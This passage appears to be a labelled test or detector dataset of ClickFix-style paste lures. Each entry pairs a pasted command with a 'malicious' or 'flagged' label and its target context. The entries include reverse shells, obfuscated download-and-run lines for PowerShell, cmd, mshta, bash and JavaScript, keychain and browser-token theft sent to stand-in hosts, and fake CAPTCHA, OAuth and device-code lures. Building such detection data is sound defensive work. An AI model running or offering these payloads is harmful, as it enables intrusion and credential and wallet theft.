    ('linux-perl-rev', 'perl -e \'use Socket;$i="198.51.100.4";$p=443;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\'', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-busybox-nc', 'busybox nc 198.51.100.4 443 -e /bin/sh', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-mkfifo', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.4 443 >/tmp/f', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('js-cookie-exfil', "new Image().src='https://px.lumen-gate.test/c?d='+encodeURIComponent(document.cookie)", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-localstorage-exfil', "fetch('https://hook.lumen-gate.test/l',{method:'POST',body:JSON.stringify(localStorage)})", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-eval-atob', "eval(atob('ZmV0Y2goImh0dHBzOi8vY2RuLmx1bWVuLWdhdGUudGVzdC94IikudGhlbihyPT5yLnRleHQoKSkudGhlbihldmFsKQ=='))", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-settimeout-str', 'setTimeout("var s=document.createElement(\'script\');s.src=\'https://cdn.lumen-gate.test/s.js\';document.body.appendChild(s)",0)', 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-telegram-exfil', "fetch('https://api.telegram.org/bot123456:AAE-x/sendMessage?chat_id=99&text='+encodeURIComponent(document.cookie))", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-javascript-url', "javascript:void(fetch('https://cdn.lumen-gate.test/j').then(r=>r.text()).then(eval))", 'malicious', 'any', 'unknown', 'https://shop.lantern-crafts.example/verify'),
    ('ps-aes', "powershell -w 1 -ep Unrestricted -nop function d($h){return -split ($h -replace '..', '0x$& ')};$c=d('E66C0CA08F11B2A7D9E3F5C1A0B3D4E5F60718293A4B5C6D7E8F90A1B2C3D4E5');$a=[Security.Cryptography.Aes]::Create();$a.Key=d('0102030405060708090A0B0C0D0E0F10');$a.IV=d('000102030405060708090A0B0C0D0E0F');$t=[Text.Encoding]::UTF8.GetString($a.CreateDecryptor().TransformFinalBlock($c,0,$c.Length));iex $t", 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-hex-split', 'powershell -w 1 -nop -c "function h($x){-split($x -replace \'..\',\'0x$& \')};iex([Text.Encoding]::ASCII.GetString((h \'6965782869726D2068747470733A2F2F63646E2E6C756D656E2D676174652E746573742F6829\')))"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-b64-exe-drop', 'powershell -nop -c "$o=[Convert]::FromBase64String(\'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUu\');[IO.File]::WriteAllBytes("$env:TEMP\\u.exe",$o);Start-Process "$env:TEMP\\u.exe""', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-downloaddata-utf8', 'powershell -c "iex([Text.Encoding]::UTF8.GetString((New-Object Net.WebClient).DownloadData(\'https://cdn.lumen-gate.test/d\')))"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-webclient-ua', 'powershell -c "$w=new-object net.webclient;$w.headers.add(\'user-agent\',\'Mozilla/5.0\');iex $w.downloadstring(\'https://cdn.lumen-gate.test/u\')"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmd-echo-pipe-ps', 'cmd /c "echo iex(irm cdn.lumen-gate.test/e) | powershell -"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmd-curl-pipe-cmd', 'cmd.exe /c curl.exe -s -k http://198.51.100.5/a | cmd', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmd-start-min', 'cmd /c start /min "" powershell -w h -c "$r=iwr -uri \'http://198.51.100.5/r\' -UseBasicParsing; iex $r"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-full-path', '"C:\\WINDOWS\\system32\\WindowsPowerShell\\v1.0\\PowerShell.exe" -W Hidden -command $u=\'ht\'+\'tps://cdn.lumen-gate.test/f\'; iex (iwr $u -UseBasicParsing).Content', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-homoglyph-tail', "mshta.exe https://cdn.lumen-gate.test/ulmt.mp3 # ✅ ''Ι am nοt a rοbοt - Clοudflare Verificatiοn ID: 8812''", 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-gzip-b64', 'powershell -c "iex(New-Object IO.StreamReader(New-Object IO.Compression.GZipStream([IO.MemoryStream][Convert]::FromBase64String(\'H4sIAAAAAAACA8tMrdDILMpVyCgpKSi20tdPTsnTyynNTc3TTU8sSdUrSS0u0U/XBADBJ34YJgAAAA==\'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-invoke-item-webdav', 'powershell -c "ii \\\\cdn.lumen-gate.test@SSL\\DavWWWRoot\\doc.lnk"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-iex-var-indirect', 'powershell -c "$v=(Get-Variable -Name ExecutionContext -ValueOnly);$v.InvokeCommand.InvokeScript((irm https://cdn.lumen-gate.test/v))"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-executioncontext', 'powershell -c "$ExecutionContext.InvokeCommand.InvokeScript((New-Object Net.WebClient).DownloadString(\'https://cdn.lumen-gate.test/v\'))"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-newscriptblock', 'powershell -c "$ExecutionContext.InvokeCommand.NewScriptBlock((irm cdn.lumen-gate.test/n)).Invoke()"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-psobject-invoke', 'powershell -c "$i=(Get-Command Invoke-Expression);& $i (irm cdn.lumen-gate.test/c)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-cmdlet-name-concat', 'powershell -c "& (\'I\'+\'nvoke-\'+\'Expression\') (& (\'Invoke-Rest\'+\'Method\') cdn.lumen-gate.test/c)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-env-comspec-letters', 'powershell -c "&($env:ComSpec[4,15,25]-join\'\') (irm cdn.lumen-gate.test/c)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-verbose-pref', 'powershell -c ".( $VerbosePreference.ToString()[1,3]+\'x\'-join\'\') (irm cdn.lumen-gate.test/c)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-backticks', 'powershell -c "i`e`x (i`wr -u`s`eb cdn.lumen-gate.test/b)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-uri-unescape', 'powershell -c "iex(irm ([uri]::UnescapeDataString(\'https%3A%2F%2Fcdn.lumen-gate.test%2Fu\')))"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-mixed-join-array', 'powershell -c "$p=@(\'ht\',\'tps:\',\'//cdn.lu\',\'men-gate.test/a\');iex(irm($p -join \'\'))"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-substring', 'powershell -c "$s=\'zzhttps://cdn.lumen-gate.test/szz\';iex(irm $s.Substring(2,31))"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-regex-split', 'powershell -c "iex(irm ((\'h_t_t_p_s_:_/_/cdn.lumen-gate.test/q\' -split \'_\') -join \'\'))"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-jobs', 'powershell -c "Start-Job {iex(irm https://cdn.lumen-gate.test/j)} | Wait-Job"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-runspace', 'powershell -c "$p=[PowerShell]::Create();[void]$p.AddScript((irm https://cdn.lumen-gate.test/r));$p.Invoke()"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-add-type-cs', 'powershell -c "Add-Type -TypeDefinition (irm https://cdn.lumen-gate.test/t.cs); [X]::Run()"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-clip-clear', 'powershell -w h -c "Set-Clipboard -Value \' \';iex(irm https://cdn.lumen-gate.test/q)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-history-clear', 'powershell -w h -c "iex(irm https://cdn.lumen-gate.test/q);Remove-ItemProperty -Path \'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\' -Name * "', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmd-delayed-exp', 'cmd /v:on /c "set p=ersh&&set q=ell&&!comspec:~0,0!pow!p!!q! -c irm cdn.lumen-gate.test/d|iex"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmd-comspec-sub', '%comspec% /c %comspec:~-16,1%%comspec:~-1%%comspec:~-13,1%hta https://cdn.lumen-gate.test/x', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmd-for-f-curl', 'cmd /c for /f "delims=" %i in (\'curl -s https://cdn.lumen-gate.test/f\') do %i', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmd-quote-insert', 'cmd /c p"owe"rs"hell" -c i"r"m cdn.lumen-gate.test/q|iex', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('mshta-vbscript', 'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w h -c iex(irm cdn.lumen-gate.test/v)"",0:close")', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('mshta-javascript', "mshta javascript:a=GetObject('script:https://cdn.lumen-gate.test/s.sct').Exec();close()", 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('rundll32-js', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://cdn.lumen-gate.test/r")', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('rundll32-url-dll', 'rundll32 url.dll,OpenURL https://cdn.lumen-gate.test/x.hta', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('explorer-search-ms', 'search-ms:query=Invoice&crumb=location:\\\\198.51.100.8@80\\pub&displayname=Documents', 'flagged', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ms-msdt', 'ms-msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=? IT_BrowseForFile=$(iex(irm cdn.lumen-gate.test/m))"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('certutil-decode', 'cmd /c certutil -urlcache -f https://cdn.lumen-gate.test/a.txt %tmp%\\a.txt & certutil -decode %tmp%\\a.txt %tmp%\\a.exe & %tmp%\\a.exe', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('esentutl-copy', 'esentutl.exe /y \\\\198.51.100.8\\pub\\a.exe /d %tmp%\\a.exe /o & %tmp%\\a.exe', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('replace-exe', 'replace.exe \\\\198.51.100.8\\pub\\a.exe %tmp% /A & %tmp%\\a.exe', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('xcopy-webdav', 'xcopy \\\\cdn.lumen-gate.test@SSL\\d\\a.exe %tmp% /y & start %tmp%\\a.exe', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('expand-cab', 'expand \\\\198.51.100.8\\pub\\p.cab -F:* %tmp% & %tmp%\\p.exe', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ieexec', 'ieexec.exe https://cdn.lumen-gate.test/a.exe', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('msxsl', 'msxsl.exe https://cdn.lumen-gate.test/a.xml https://cdn.lumen-gate.test/a.xsl', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('installutil-unc', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U \\\\198.51.100.8\\pub\\a.dll', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('regasm-unc', 'regasm.exe /U \\\\198.51.100.8\\pub\\a.dll', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('tftp', 'tftp -i 198.51.100.8 GET a.exe %tmp%\\a.exe & %tmp%\\a.exe', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('scriptrunner', 'ScriptRunner.exe -appvscript \\\\198.51.100.8\\pub\\a.cmd', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('winget-remote', 'winget install --manifest \\\\198.51.100.8\\pub\\m --accept-package-agreements', 'flagged', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('dotnet-dll', 'dotnet.exe \\\\198.51.100.8\\pub\\a.dll', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('wt-ps', 'wt.exe powershell -w h -c "iex(irm cdn.lumen-gate.test/w)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('explorer-shell-webdav', 'explorer.exe \\\\cdn.lumen-gate.test@SSL\\DavWWWRoot\\', 'flagged', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('mshta-nested-cmd', 'cmd /c start mshta "https://cdn.lumen-gate.test/n"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('mac-curl-var-url', 'u=https://cdn.lumen-gate.test/i; curl -fsSL "$u" | bash', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-printf-octal', "$(printf '\\143\\165\\162\\154') -s https://cdn.lumen-gate.test/o | $(printf '\\142\\141\\163\\150')", 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-eval-b64', 'eval "$(echo Y3VybCAtcyBodHRwczovL2Nkbi5sdW1lbi1nYXRlLnRlc3QvZSB8IGJhc2g= | base64 -d)"', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-python-b64', 'python3 -c "import base64,os;os.system(base64.b64decode(\'Y3VybCAtcyBodHRwczovL2Nkbi5sdW1lbi1nYXRlLnRlc3QvcHxzaA==\'))"', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-osascript-jxa-b64', 'osascript -l JavaScript -e "eval(ObjC.unwrap($.NSString.alloc.initWithDataEncoding($.NSData.alloc.initWithBase64EncodedStringOptions(\'YXBwPUFwcGxpY2F0aW9uLmN1cnJlbnRBcHBsaWNhdGlvbigpO2FwcC5pbmNsdWRlU3RhbmRhcmRBZGRpdGlvbnM9dHJ1ZTthcHAuZG9TaGVsbFNjcmlwdCgiY3VybCAtcyBodHRwczovL2Nkbi5sdW1lbi1nYXRlLnRlc3QvanxzaCIp\',0),4)))"', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-launchctl', 'curl -so ~/Library/LaunchAgents/com.apple.upd.plist https://cdn.lumen-gate.test/p.plist && launchctl load ~/Library/LaunchAgents/com.apple.upd.plist', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-keychain-dump', 'security dump-keychain -d login.keychain > /tmp/k.txt; curl -F f=@/tmp/k.txt https://drop.lumen-gate.test/u', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-find-generic-password', 'security find-generic-password -wa Chrome | curl -d @- https://drop.lumen-gate.test/c', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-zip-exfil', 'cd ~/Library/Application\\ Support/Google/Chrome && zip -qr /tmp/c.zip Default && curl -F d=@/tmp/c.zip http://198.51.100.60/up', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-base64-D-bash-space', 'echo    Y3VybCAtZnNTTCBodHRwczovL2Nkbi5sdW1lbi1nYXRlLnRlc3QvcyB8IGJhc2g=    |    base64   -D   |   bash', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-sh-dollar-quote', "$'\\x63\\x75\\x72\\x6c' -s https://cdn.lumen-gate.test/x | $'\\x62\\x61\\x73\\x68'", 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-tr-rot', "echo 'phey -f uggcf://pqa.yhzra-tngr.grfg/e | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-curl-pipe-python', 'curl -s https://cdn.lumen-gate.test/p.py | python3', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-xxd', 'echo 6375726c202d732068747470733a2f2f63646e2e6c756d656e2d676174652e746573742f78207c207368 | xxd -r -p | sh', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-gunzip', 'echo H4sIAAAAAAAA/0suLUpVUNAtLilWKMnIzEvPz0tVSM5Pzs9Lzc1LLUosydTLS9XJSMzRSy1OzUktTSwBAOnNwoMuAAAA | base64 -d | gunzip | sh', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-openssl-b64', 'openssl base64 -d <<< Y3VybCAtcyBodHRwczovL2Nkbi5sdW1lbi1nYXRlLnRlc3QvbyB8IHNo | sh', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-curl-o-open', 'curl -L -o /tmp/Installer.pkg https://cdn.lumen-gate.test/Installer.pkg && sudo installer -pkg /tmp/Installer.pkg -target /', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-dscl-pw', 'read -s -p \'Password:\' p; dscl . -authonly "$USER" "$p" && echo "$p" | curl -d @- https://drop.lumen-gate.test/p', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-wget-chmod', 'wget -q http://198.51.100.2/x -O /dev/shm/.x && chmod 755 /dev/shm/.x && /dev/shm/.x', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-curl-to-bashrc', "echo 'curl -s https://cdn.lumen-gate.test/r | bash' >> ~/.bashrc", 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-ld-preload', 'curl -so /tmp/l.so https://cdn.lumen-gate.test/l.so && echo /tmp/l.so | sudo tee -a /etc/ld.so.preload', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-ifs', 'curl${IFS}-s${IFS}https://cdn.lumen-gate.test/i|bash', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-bash-5', 'bash -c "$(wget -qO- https://cdn.lumen-gate.test/b)"', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-sh-procsub', 'sh <(curl -s https://cdn.lumen-gate.test/p)', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-node-eval', 'node -e "require(\'https\').get(\'https://cdn.lumen-gate.test/n\',r=>{let d=\'\';r.on(\'data\',c=>d+=c);r.on(\'end\',()=>eval(d))})"', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-php-exec', 'php -r "eval(file_get_contents(\'https://cdn.lumen-gate.test/p\'));"', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-ruby', 'ruby -e "require \'open-uri\';eval URI.open(\'https://cdn.lumen-gate.test/r\').read"', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-curl-ip-decimal', 'curl -s http://3325256713/s | sh', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-dev-shm-wget-nohup', 'cd /tmp; wget http://198.51.100.2/bins.sh; chmod 777 bins.sh; sh bins.sh', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-history-off', 'unset HISTFILE; curl -s https://cdn.lumen-gate.test/h | bash', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('js-function-atob', "Function(atob('ZmV0Y2goJ2h0dHBzOi8vY2RuLmx1bWVuLWdhdGUudGVzdC94JykudGhlbihyPT5yLnRleHQoKSkudGhlbihldmFsKQ=='))()", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-fromcharcode', 'eval(String.fromCharCode(102,101,116,99,104,40,39,104,116,116,112,115,58,47,47,99,100,110,46,116,101,115,116,47,120,39,41))', 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-bracket-eval', "window['e'+'v'+'a'+'l'](atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-importscripts', "document.body.appendChild(Object.assign(document.createElement('script'),{src:'https://cdn.lumen-gate.test/a.js'}))", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-wallet-approve', "ethereum.request({method:'eth_sendTransaction',params:[{from:ethereum.selectedAddress,to:'0x9179dda8b285040bf381aabb8a1f4a1b8c37ed53',data:'0x095ea7b30000000000000000000000009179dda8b285040bf381aabb8a1f4a1b8c37ed53ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]})", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-sessionstorage-discord', "(webpackChunkdiscord_app.push([[''],{},e=>{m=[];for(let c in e.c)m.push(e.c[c])}]),m).find(m=>m?.exports?.default?.getToken!==void 0).exports.default.getToken()", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-iframe-token', "let i=document.createElement('iframe');document.body.appendChild(i);fetch('https://hook.lumen-gate.test/x?t='+i.contentWindow.localStorage.token)", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-websocket-exfil', "new WebSocket('wss://ws.lumen-gate.test/s').onopen=function(){this.send(document.cookie+localStorage.getItem('auth'))}", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-fetch-then-function', "fetch('https://cdn.lumen-gate.test/f').then(r=>r.text()).then(t=>new Function(t)())", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-jquery-getscript', "$.getScript('https://cdn.lumen-gate.test/g.js')", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-indexeddb-exfil', "indexedDB.databases().then(d=>fetch('https://hook.lumen-gate.test/i',{method:'POST',body:JSON.stringify(d)}))", 'flagged', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-navigator-sendbeacon', "navigator.sendBeacon('https://hook.lumen-gate.test/b', document.cookie)", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-proto-constructor', '[][\'filter\'][\'constructor\'](\'return fetch("https://cdn.lumen-gate.test/c").then(r=>r.text()).then(eval)\')()', 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('filefix-ideographic', 'powershell.exe -c "irm cdn.lumen-gate.test/f | iex"\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000\u3000# C:\\Users\\Public\\Documents\\Invoice_8812.pdf', 'malicious', 'windows', 'explorer_bar', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('filefix-upload-dialog', 'C:\\Windows\\System32\\cmd.exe /c curl -s https://cdn.lumen-gate.test/f.bat -o %tmp%\\f.bat&&%tmp%\\f.bat & rem                                   C:\\Shared\\Report.docx', 'malicious', 'windows', 'explorer_bar', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('filefix-conhost', 'conhost --headless cmd /c "curl -s cdn.lumen-gate.test/c | cmd"     # \\\\fileserver\\HR\\Q4-bonus.xlsx', 'malicious', 'windows', 'explorer_bar', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('filefix-finger', 'cmd /c finger doc@198.51.100.9 | cmd                                            ::  File Explorer › Documents › Statement.pdf', 'malicious', 'windows', 'explorer_bar', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('meet-fix-multi', 'Your microphone driver is blocked. To fix it:\n1. Press Windows + R\n2. Paste: powershell -w h -c "iex(irm cdn.lumen-gate.test/mic)"\n3. Press Enter', 'malicious', 'windows', 'unknown', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('teams-fix-mac', 'Audio device error 0x800. Open Terminal and run:\ncurl -fsSL https://cdn.lumen-gate.test/teams-fix | bash', 'flagged', 'any', 'terminal', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('bsod-fix', 'CRITICAL_PROCESS_DIED. Recovery: press Win+X, choose Terminal (Admin), paste the line below and press Enter.\nirm https://cdn.lumen-gate.test/recover.ps1 | iex', 'malicious', 'windows', 'terminal', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('github-alert', 'Security alert in your repository: a vulnerable dependency was found. Verify you are the maintainer: press Win+R and paste\nmshta https://gh-verify.lumen-gate.test/v', 'malicious', 'windows', 'unknown', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('turnstile-tail', 'powershell -c "iwr -useb cdn.lumen-gate.test/t|iex" # Cloudflare Turnstile: human check passed ☑ Ray ID 8a1f2c', 'malicious', 'windows', 'run_dialog', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('captcha-tail-url-only', "https://cdn.lumen-gate.test/verify.hta  ✔ I'm not a robot - reCAPTCHA Verification ID 55190", 'flagged', 'windows', 'run_dialog', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('captcha-tail-japanese', 'powershell -w h -c "irm cdn.lumen-gate.test/j|iex" # 私はロボットではありません - 認証ID: 4412', 'malicious', 'windows', 'run_dialog', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('captcha-tail-braille', 'powershell -w h -c "irm cdn.lumen-gate.test/b|iex"⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀⠀# Verification complete', 'malicious', 'windows', 'run_dialog', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('captcha-tail-zwsp', 'mshta\u200b https://cdn.lumen-gate.test/z', 'malicious', 'windows', 'run_dialog', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('consentfix-azcli', 'http://localhost:53127/?code=1.AQsAxJ6yZ3kPUk2wV8hTZ4qN9WQ&state=rXn3ZT&session_state=3c2e-11', 'flagged', 'any', 'other', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('consentfix-google', 'http://127.0.0.1:41733/?state=x8&code=4/0AVG7fiR9q2kZpLmNb81xQ&scope=email%20openid%20https://www.googleapis.com/auth/drive', 'flagged', 'any', 'unknown', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('consentfix-nativeclient', 'https://login.microsoftonline.com/common/oauth2/nativeclient?code=0.AVYA9Gq-8hkdlQ1lS&session_state=ab1', 'flagged', 'any', 'unknown', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('device-code-other', 'Your session expired. Visit microsoft.com/devicelogin and type the code B7QK-W2ZP to keep access to the shared file.', 'flagged', 'any', 'other', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('device-code-github', 'To link your account go to https://github.com/login/device and enter code 8F2A-91C3 within 15 minutes.', 'flagged', 'any', 'other', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('device-code-google', 'Go to google.com/device and enter JKP-QRT-XZW to confirm your identity.', 'flagged', 'any', 'unknown', 'https://meet-join.lantern-crafts.example/j/8812'),
